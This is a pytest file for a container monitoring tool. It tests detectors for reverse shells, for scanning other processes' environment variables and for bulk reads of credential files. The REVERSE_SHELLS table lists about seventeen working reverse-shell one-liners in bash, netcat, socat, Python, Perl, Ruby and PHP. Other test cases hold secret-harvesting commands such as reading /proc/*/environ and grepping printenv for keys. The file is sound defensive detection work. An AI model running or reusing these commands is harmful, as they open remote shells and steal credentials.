"""Detectors over fake /proc snapshots and command-line pattern tables."""

from __future__ import annotations

from pathlib import Path

import pytest

from coi.monitor import detectors, patterns, procs
from coi.monitor.findings import Deduper, Finding, Severity
from tests.unit.test_monitor_fakeproc import FakeProc

INIT = 500


def snapshot(tmp_path: Path, *extra: dict[str, object]) -> procs.Snapshot:
    fake = FakeProc(tmp_path)
    fake.add(INIT, ["/sbin/init"], ppid=400, ns_pid=1)
    fake.tcp(INIT, 7001, ("10.0.0.5", 40000), ("10.0.0.9", 4444))
    fake.tcp(INIT, 7002, ("127.0.0.1", 40001), ("127.0.0.1", 8080))
    fake.tcp(INIT, 7003, ("10.0.0.5", 4444), ("0.0.0.0", 0), state="0A")
    fake.tcp(INIT, 7004, ("fd42::5", 40002), ("fd42::9", 4444), proto="tcp6")
    for spec in extra:
        fake.add(**spec)  # type: ignore[arg-type]
    return procs.scan_container(fake.root, INIT)


def found(snap: procs.Snapshot) -> list[tuple[Severity, str, int]]:
    return [(f.severity, f.detector, f.evidence["pid"]) for f in detectors.detect(snap)]


def test_shell_with_socket_stdio_is_critical(tmp_path: Path) -> None:
    # What an obfuscated payload leaves behind: `bash -i` with fd 0/1/2 on a socket.
    snap = snapshot(tmp_path, {"pid": 600, "cmdline": ["bash", "-i"], "ppid": INIT,
                               "fds": {0: "socket:[7001]", 1: "socket:[7001]",
                                       2: "socket:[7001]"}})
    [finding] = detectors.detect(snap)
    assert (finding.severity, finding.detector) == (Severity.CRITICAL, "reverse_shell")
    assert finding.evidence["socket"]["remote"] == "10.0.0.9:4444"
    assert finding.evidence["cmdline"] == "bash -i" and finding.key == "600"


def test_ipv6_peer_counts_too(tmp_path: Path) -> None:
    snap = snapshot(tmp_path, {"pid": 600, "cmdline": ["python3"], "ppid": INIT,
                               "fds": {0: "socket:[7004]", 1: "socket:[7004]"}})
    assert found(snap) == [(Severity.CRITICAL, "reverse_shell", 600)]


@pytest.mark.parametrize("fds", [
    {0: "socket:[7002]", 1: "socket:[7002]"},  # loopback peer
    {0: "socket:[7003]"},  # a listening socket, not a connection
    {0: "socket:[9999]"},  # unix socket: not in the inet tables
    {3: "socket:[7001]"},  # a shell that merely holds a connection
    {0: "/dev/pts/0", 1: "pipe:[1]"},
])
def test_shell_without_remote_stdio_is_fine(tmp_path: Path, fds: dict[int, str]) -> None:
    snap = snapshot(tmp_path, {"pid": 600, "cmdline": ["bash"], "ppid": INIT, "fds": fds})
    assert found(snap) == []


def test_non_shell_with_socket_stdio_is_fine(tmp_path: Path) -> None:
    snap = snapshot(tmp_path, {"pid": 600, "cmdline": ["sshd: code"], "ppid": INIT,
                               "fds": {0: "socket:[7001]", 1: "socket:[7001]"}})
    assert found(snap) == []


REVERSE_SHELLS = [
    "bash -c bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
    "bash -c exec 3<>/dev/tcp/10.0.0.1/4444; exec bash -i <&3 >&3 2>&3",
    "sh -c exec 5<>/dev/tcp/10.0.0.1/4444; cat <&5 | while read l; do $l 2>&5 >&5; done",
    "bash -c cat </dev/tcp/10.0.0.1/4444 | bash",
    "bash -c sh <&3 >&3 3<>/dev/udp/10.0.0.1/53",
    "nc -e /bin/sh 10.0.0.1 4444",
    "/usr/bin/ncat 10.0.0.1 4444 -e /bin/bash",
    "nc.traditional -lvnp 4444 -e /bin/sh",
    "ncat --sh-exec 'bash -i' 10.0.0.1 4444",
    "sh -c rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 10.0.0.1 4444 >/tmp/f",
    "socat tcp-connect:10.0.0.1:4444 exec:'bash -li',pty,stderr",
    "socat TCP:10.0.0.1:4444 SYSTEM:sh",
    "python3 -c import socket,subprocess,os;s=socket.socket();s.connect(('10.0.0.1',4444));"
    "os.dup2(s.fileno(),0);subprocess.call(['/bin/sh','-i'])",
    "python -c import socket,pty;s=socket.socket();s.connect(('h',1));pty.spawn('sh')",
    "perl -e use Socket;socket(S,PF_INET,SOCK_STREAM,6);open(STDIN,'>&S');exec('/bin/sh -i')",
    "ruby -rsocket -e f=TCPSocket.open('10.0.0.1',4444).to_i;exec sprintf('/bin/sh -i <&%d',f)",
    "php -r $sock=fsockopen('10.0.0.1',4444);exec('/bin/sh -i <&3 >&3 2>&3');",
]
BENIGN = [
    "python -c print(1)",
    "python3 -m pytest tests/test_socket.py -k subprocess",
    "python3 -c import socket; print(socket.gethostname())",
    "nc -zv example.com 443",
    "grep -r /dev/tcp docs/",  # no host/port after it
    "bash -c exec 3<>/dev/tcp/127.0.0.1/9 || echo refused",  # a connectivity probe
    "bash -c exec 3<>/dev/tcp/10.0.0.5/8080 && head -c 5 <&3",  # reading a banner
    "timeout 3 bash -c exec 3<>/dev/tcp/deb.debian.org/80",
    "bash -i",
    "socat - TCP:localhost:80",
    "perl -e print 'hello'",
    "ruby -e puts 1",
    "php -r echo 1;",
    "git commit -m use exec in the socket layer",
]


@pytest.mark.parametrize("command", REVERSE_SHELLS)
def test_reverse_shell_command_lines(command: str) -> None:
    assert patterns.match_rules(patterns.REVERSE_SHELL_RULES, command) is not None


@pytest.mark.parametrize("command", BENIGN)
def test_benign_command_lines(command: str) -> None:
    assert patterns.match_rules(patterns.REVERSE_SHELL_RULES, command) is None


def test_reverse_shell_by_command_line_is_critical(tmp_path: Path) -> None:
    snap = snapshot(tmp_path, {"pid": 600, "cmdline": ["nc", "-e", "/bin/sh", "10.0.0.1",
                                                       "4444"], "ppid": INIT})
    [finding] = detectors.detect(snap)
    assert finding.severity == Severity.CRITICAL and finding.evidence["pattern"] == "netcat-exec"


def test_reading_another_process_environ_via_fd(tmp_path: Path) -> None:
    snap = snapshot(tmp_path, {"pid": 600, "cmdline": ["python3", "x.py"], "ppid": INIT,
                               "ns_pid": 30, "fds": {3: "/proc/1/environ"}})
    assert found(snap) == [(Severity.HIGH, "env_scan", 600)]


def test_reading_own_environ_is_fine(tmp_path: Path) -> None:
    snap = snapshot(tmp_path, {"pid": 600, "cmdline": ["python3", "x.py"], "ppid": INIT,
                               "ns_pid": 30, "fds": {3: "/proc/30/environ"}})
    assert found(snap) == []


@pytest.mark.parametrize("command", [
    "cat /proc/1/environ /proc/20/environ",
    "sh -c cat /proc/*/environ | tr '\\0' '\\n'",
    "sh -c for p in /proc/[0-9]*; do strings $p/environ; done",
    "sh -c env | grep -i token",
    "bash -c printenv | egrep 'KEY|SECRET'",
])
def test_env_scanning_command_lines(tmp_path: Path, command: str) -> None:
    snap = snapshot(tmp_path, {"pid": 600, "cmdline": command.split(" ", 2), "ppid": INIT,
                               "ns_pid": 30})
    assert found(snap) == [(Severity.HIGH, "env_scan", 600)]


@pytest.mark.parametrize("command", [
    "grep -r token src/",
    "cat /proc/self/environ",
    "cat /proc/30/environ",  # its own pid
    "sh -c env | sort",
    "rg -i api_key --type py",
])
def test_agent_work_is_not_env_scanning(tmp_path: Path, command: str) -> None:
    snap = snapshot(tmp_path, {"pid": 600, "cmdline": command.split(" ", 2), "ppid": INIT,
                               "ns_pid": 30})
    assert found(snap) == []


def test_env_piped_to_grep_seen_as_siblings(tmp_path: Path) -> None:
    snap = snapshot(tmp_path,
                    {"pid": 600, "cmdline": ["bash"], "ppid": INIT},
                    {"pid": 601, "cmdline": ["env"], "ppid": 600},
                    {"pid": 602, "cmdline": ["grep", "-i", "token"], "ppid": 600})
    [finding] = detectors.detect(snap)
    assert (finding.detector, finding.evidence["pid"]) == ("env_scan", 602)
    assert finding.evidence["pipeline"] == ["env", "grep -i token"]


def test_grep_for_secrets_next_to_other_commands_is_fine(tmp_path: Path) -> None:
    snap = snapshot(tmp_path,
                    {"pid": 600, "cmdline": ["bash"], "ppid": INIT},
                    {"pid": 601, "cmdline": ["env", "FOO=1", "make"], "ppid": 600},
                    {"pid": 602, "cmdline": ["grep", "-i", "token"], "ppid": 600})
    assert found(snap) == []


def test_bulk_credential_reads(tmp_path: Path) -> None:
    files = {3: "/home/code/.aws/credentials", 4: "/workspace/.env", 5: "/root/.ssh/id_rsa"}
    snap = snapshot(tmp_path, {"pid": 600, "cmdline": ["tar", "czf", "/tmp/x"], "ppid": INIT,
                               "fds": files})
    [finding] = detectors.detect(snap)
    assert (finding.severity, finding.detector, finding.evidence["count"]) == (
        Severity.HIGH, "credential_scan", 3)


def test_one_credential_file_and_public_keys_are_fine(tmp_path: Path) -> None:
    snap = snapshot(tmp_path, {"pid": 600, "cmdline": ["cat", "/workspace/.env",
                                                       "/home/code/.ssh/id_rsa.pub",
                                                       "/home/code/.ssh/known_hosts"],
                               "ppid": INIT})
    assert found(snap) == []


@pytest.mark.parametrize(("path", "expected"), [
    ("/workspace/.env", True), ("/workspace/.env.production", True),
    ("/home/code/.netrc", True), ("/srv/tls/server.key", True),
    ("/home/code/.docker/config.json", True), ("/workspace/package/config.json", False),
    ("/workspace/src/env.py", False), ("/home/code/.ssh/id_ed25519.pub", False),
])
def test_credential_shapes(path: str, expected: bool) -> None:
    assert patterns.is_credential_path(path) is expected


def test_dedupe_window_and_escalation() -> None:
    dedupe = Deduper(window_s=30)
    warn = Finding(Severity.WARNING, "file_read", "t", key="volume")
    high = Finding(Severity.HIGH, "file_read", "t", key="volume")
    assert dedupe.is_new(warn, 0.0)
    assert not dedupe.is_new(warn, 10.0)
    assert dedupe.is_new(high, 11.0)  # worse news always gets through
    assert not dedupe.is_new(warn, 20.0)
    assert dedupe.is_new(warn, 45.0)
    assert dedupe.is_new(Finding(Severity.WARNING, "file_read", "t", key="rate"), 45.0)


def test_severity_order_and_parse() -> None:
    assert Severity.CRITICAL > Severity.HIGH > Severity.WARNING > Severity.INFO
    assert Severity.parse(" High ") is Severity.HIGH and Severity.HIGH.label == "high"
    with pytest.raises(ValueError, match="expected one of"):
        Severity.parse("severe")
